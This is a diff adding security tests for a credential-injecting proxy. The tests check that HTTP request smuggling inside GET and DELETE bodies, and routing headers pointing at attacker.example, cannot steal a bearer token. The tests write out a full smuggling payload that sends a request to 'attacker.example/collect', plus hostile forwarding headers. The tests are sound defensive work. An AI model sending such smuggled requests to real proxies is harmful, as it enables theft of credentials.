@@ -101,6 +101,7 @@ const ANSWERS: Record<string, string> = {
   "status-999": "HTTP/1.1 999 Whatever\r\ncontent-length: 2\r\n\r\nok",
   "http2-settings": "HTTP/1.1 200 OK\r\nhttp2-settings: AAMAAABkAAQAoAAAAAIAAAAA\r\ncontent-length: 2\r\n\r\nok",
   "connection-named": "HTTP/1.1 200 OK\r\nconnection: x-hop\r\nx-hop: 1\r\ncontent-length: 2\r\n\r\nok",
+  "five-codings": `HTTP/1.1 200 OK\r\ncontent-encoding: gzip, gzip, gzip, gzip, gzip\r\ncontent-length: 2\r\n\r\nok`,
 };
 
 /** Answers every request; /echo reflects the credentials, /gzip does so compressed. */
@@ -658,6 +659,83 @@ describe("what one terminated connection can make the proxy do", () => {
     await closed;
   });
 
+  it("a body on a GET or DELETE is framed again for an HTTP/1.1 upstream: no request of the sandbox's making rides in it and takes the next request's secret (review, session 44)", async () => {
+    const { socketPath } = await start({ upstreamPort: h1Port });
+    const from = seen.length;
+    // A whole request, then one left open whose head the next request would have completed.
+    const smuggled = `GET /smuggled HTTP/1.1\r\nHost: attacker.example\r\n\r\nPOST https://attacker.example/collect HTTP/1.1\r\nContent-Length: 0\r\nX-Ignore: `;
+    const h1 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
+    const received: Buffer[] = [];
+    h1.on("data", (c: Buffer) => received.push(c));
+    const h1Closed = new Promise<void>((resolve) => h1.once("close", () => resolve()));
+    h1.write(
+      `GET /first HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n` +
+        `GET /second HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
+    await h1Closed;
+    expect(
+      Buffer.concat(received)
+        .toString()
+        .match(/^HTTP\/1\.1 200 /gm),
+    ).toHaveLength(2);
+    // Over HTTP/2 a DELETE's DATA frames, with no content-length, reach the HTTP/1.1-only upstream.
+    const h2 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2"]));
+    const session = http2.connect("https://api.test", { createConnection: () => h2 });
+    const ask = (headers: http2.OutgoingHttpHeaders, body?: string) =>
+      new Promise<number>((resolve, reject) => {
+        // (Node's client ends a DELETE's stream with its headers unless told otherwise.)
+        const stream = session.request(headers, { endStream: body === undefined });
+        stream.on("response", (h) => {
+          stream.resume();
+          stream.on("end", () => resolve(Number(h[":status"])));
+        });
+        stream.on("error", reject);
+        stream.end(body);
+      });
+    expect(await ask({ ":method": "DELETE", ":path": "/h2-first" }, smuggled)).toBe(200);
+    expect(await ask({ ":path": "/h2-second", authorization: `Bearer ${PLACEHOLDER}` })).toBe(200);
+    session.close();
+    const upstream = seen.slice(from);
+    expect(upstream.map((r) => [r.method, r.path, r.body])).toEqual([
+      ["GET", "/first", smuggled],
+      ["GET", "/second", ""],
+      ["DELETE", "/h2-first", smuggled],
+      ["GET", "/h2-second", ""],
+    ]);
+    expect(upstream.map((r) => r.headers.authorization)).toEqual([
+      undefined,
+      `Bearer ${TOKEN}`,
+      undefined,
+      `Bearer ${TOKEN}`,
+    ]);
+  });
+
+  it("routing headers and those Connection names do not travel with a secret", async () => {
+    const { socketPath } = await start({ upstreamPort: h1Port });
+    const h1 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
+    const answer = await http1Request(h1, {
+      path: "/routed",
+      host: "api.test",
+      headers: {
+        authorization: `Bearer ${PLACEHOLDER}`,
+        "x-forwarded-host": "attacker.example",
+        forwarded: "host=attacker.example",
+        "x-original-url": "https://attacker.example/collect",
+        connection: "x-hop",
+        "x-hop": "1",
+        "x-kept": "1",
+      },
+    });
+    h1.destroy();
+    expect(answer.status).toBe(200);
+    const upstream = seen.at(-1);
+    expect(upstream?.path).toBe("/routed");
+    expect(upstream?.headers.authorization).toBe(`Bearer ${TOKEN}`);
+    expect(upstream?.headers["x-kept"]).toBe("1");
+    for (const name of ["x-forwarded-host", "forwarded", "x-original-url", "x-hop"])
+      expect(upstream?.headers[name]).toBeUndefined();
+  });
+
   it("an absolute-form request target is refused (400) and reported: the secret goes nowhere", async () => {
     const { socketPath, decisions } = await start();
     const from = seen.length;
@@ -746,12 +824,19 @@ describe("what one terminated connection can make the proxy do", () => {
     expect([settings.status, settings.body, settings.headers["http2-settings"]]).toEqual([200, "ok", undefined]);
     const named = await ask("/connection-named");
     expect([named.status, named.headers["x-hop"]]).toEqual([200, undefined]);
+    // More codings than the proxy undoes to scrub (MAX_CODING_LAYERS: review, session 44).
+    const layered = await ask("/five-codings");
+    expect([layered.status, layered.body]).toEqual([
+      502,
+      expect.stringContaining("answered with 5 codings, more than the 4"),
+    ]);
     session.close();
     expect(decisions.filter((d) => d.action === "failed")).toEqual([
       expect.objectContaining({
         host: "api.test",
         reason: "the upstream answered with status 999, which is not relayed",
       }),
+      expect.objectContaining({ host: "api.test", reason: expect.stringContaining("answered with 5 codings") }),
     ]);
   });
 });
